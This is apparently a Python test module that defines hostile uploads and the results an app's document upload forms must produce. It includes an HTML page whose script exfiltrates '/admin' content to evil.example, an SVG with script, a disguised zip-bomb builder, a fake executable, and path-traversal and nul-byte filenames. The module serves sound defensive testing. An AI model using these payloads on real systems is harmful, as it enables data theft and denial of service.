"""The attack list every upload form in the app is tested with (QUALITY.md, Security → Uploads).

`attacks(limit)` gives each attack with what must happen: refused (and whether as too
large), or accepted under a cleaned display name. The list is for a form that accepts
documents (`uploads.DOCUMENTS`, so PDF and Word); endpoint tests post each one to their own
form and check the outcome, e.g.::

    for attack in attacks(limit):
        response = client.post(url, data={"file": attack.form_value(), ...})

`valid_pdf()`, `valid_docx()`, `valid_odt()` and `valid_png()` build small real files for
the normal case (uploaded, then downloaded back byte for byte).

Names: only the part after the last ``/`` or ``\\`` is kept, cleaned. A name with no
extension at all (``../../etc/passwd`` → ``passwd``, ``..\\a`` → ``a``) is accepted and gets
the extension of the type its bytes are (``passwd.pdf``): nothing it claims contradicts the
content. (Posted through a form, ``..\\a`` reaches the view as ``..a``, werkzeug reading the
backslash as an escape; leading dots go first, so that is ``a.pdf`` too.) A name whose
extension is another type's (a PDF named ``.docx``, a PDF named ``.exe``) is refused, and
the message says what the file really is.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from werkzeug.datastructures import FileStorage

# Builders of small real files ---------------------------------------------------------------


def valid_pdf(text: str = "Hello, Fellowship") -> bytes:
    """A minimal, well-formed one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_parts(text: str = "Hello, Fellowship") -> list[tuple[str, bytes]]:
    """The parts of a minimal Word document, in the order Word writes them."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        f"</w:body></w:document>"
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{_RELS}">'
        f'<Relationship Id="rId1" Type="{_OFFICE_DOC}" Target="word/document.xml"/>'
        f"</Relationships>"
    )
    return [
        ("[Content_Types].xml", _DOCX_CONTENT_TYPES.encode()),
        ("_rels/.rels", rels.encode()),
        ("word/document.xml", document.encode()),
    ]


def valid_docx(text: str = "Hello, Fellowship") -> bytes:
    """A minimal Word document that Word and LibreOffice open."""
    return _zip(docx_parts(text))


def valid_odt(text: str = "Hello, Fellowship") -> bytes:
    """A minimal OpenDocument text: `mimetype` first and stored, then content and manifest."""
    mimetype = b"application/vnd.oasis.opendocument.text"
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="'
        'application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def valid_png(width: int = 2, height: int = 2) -> bytes:
    """A real RGB PNG of `width` × `height` teal pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\x00\x80\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


# Hostile files ------------------------------------------------------------------------------

WINDOWS_EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"  # e_lfanew: the PE header follows at 0x80
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
    + b"PE\x00\x00\x4c\x01\x01\x00"
    + b"\x00" * 64
)

HTML_WITH_SCRIPT = (
    b"<!DOCTYPE html><html><head><title>Report</title></head><body>"
    b"<script>fetch('/admin', {credentials: 'include'}).then(r => r.text())"
    b".then(t => navigator.sendBeacon('https://evil.example/', t))</script>"
    b"</body></html>"
)

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" standalone="no"?>'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<rect width="10" height="10" fill="teal"/>'
    b"<script>alert(document.domain)</script></svg>"
)

BOMB_BYTES = 50 * 1024 * 1024


@functools.cache
def zip_bomb_docx(expanded: int = BOMB_BYTES) -> bytes:
    """A Word-looking archive (content types and a document first) whose last member is
    `expanded` bytes of zeros deflated to about a thousandth of that."""
    zeros = b"\x00" * expanded
    return _zip([*docx_parts(), ("word/media/image1.bin", zeros)])


# The attack list ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One hostile upload and what the app must do with it."""

    name: str  # a short id for test reports
    filename: str
    data: bytes
    refused: bool
    too_large: bool = False
    # When accepted: the exact display name it must be kept under.
    cleaned_name: str | None = None
    # What a browser (or an attacker) says it is; the app must not care.
    claimed_type: str = "application/pdf"

    def file_storage(self) -> FileStorage:
        """The upload as a view receives it (for calling `store_file` directly)."""
        return FileStorage(
            stream=io.BytesIO(self.data),
            filename=self.filename,
            name="file",
            content_type=self.claimed_type,
        )

    def form_value(self) -> tuple[io.BytesIO, str, str]:
        """The upload as the test client posts it: ``data={"file": attack.form_value()}``."""
        return io.BytesIO(self.data), self.filename, self.claimed_type


def padded_pdf(size: int) -> bytes:
    """A real PDF padded (after its end marker, where readers ignore it) to `size` bytes."""
    pdf = valid_pdf()
    assert size >= len(pdf) + 2, "limit too small for a PDF"
    return pdf + b"%" + b"0" * (size - len(pdf) - 2) + b"\n"


LONG_STEM = "📚 Équipe de leadership 🌱 " * 12  # 25 characters, 12 times: 300


def attacks(limit: int) -> list[Attack]:
    """The attacks for a document form whose largest accepted file is `limit` bytes."""
    pdf = valid_pdf()
    bomb = zip_bomb_docx()
    assert len(bomb) < limit, "the zip bomb must get past the size limit to test the archive"
    long_name = (LONG_STEM[:296] + ".pdf").strip()
    assert len(long_name) == 300
    return [
        Attack("one byte over the limit", "big.pdf", padded_pdf(limit + 1), True, True),
        Attack(
            "exactly the limit",
            "limit.pdf",
            padded_pdf(limit),
            refused=False,
            cleaned_name="limit.pdf",
        ),
        Attack("empty file", "empty.pdf", b"", refused=True),
        Attack("executable renamed .pdf", "invoice.pdf", WINDOWS_EXECUTABLE, refused=True),
        Attack("html page renamed .pdf", "report.pdf", HTML_WITH_SCRIPT, refused=True),
        Attack(
            "svg with a script",
            "logo.svg",
            SVG_WITH_SCRIPT,
            refused=True,
            claimed_type="image/svg+xml",
        ),
        Attack(
            "svg with a script renamed .png",
            "logo.png",
            SVG_WITH_SCRIPT,
            refused=True,
            claimed_type="image/png",
        ),
        Attack(
            "zip bomb disguised as .docx",
            "plan.docx",
            bomb,
            refused=True,
            claimed_type=(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            ),
        ),
        Attack("pdf named .docx", "plan.docx", pdf, refused=True),
        Attack(
            "path traversal",
            "../../etc/passwd",
            pdf,
            refused=False,
            cleaned_name="passwd.pdf",
        ),
        Attack("windows path traversal", "..\\a", pdf, refused=False, cleaned_name="a.pdf"),
        Attack(
            "nul byte in the name",
            "notes.php\x00.pdf",
            pdf,
            refused=False,
            cleaned_name="notes.php.pdf",
        ),
        Attack(
            "300 characters with emoji",
            long_name,
            pdf,
            refused=False,
            cleaned_name=long_name[:251].rstrip() + ".pdf",
        ),
    ]
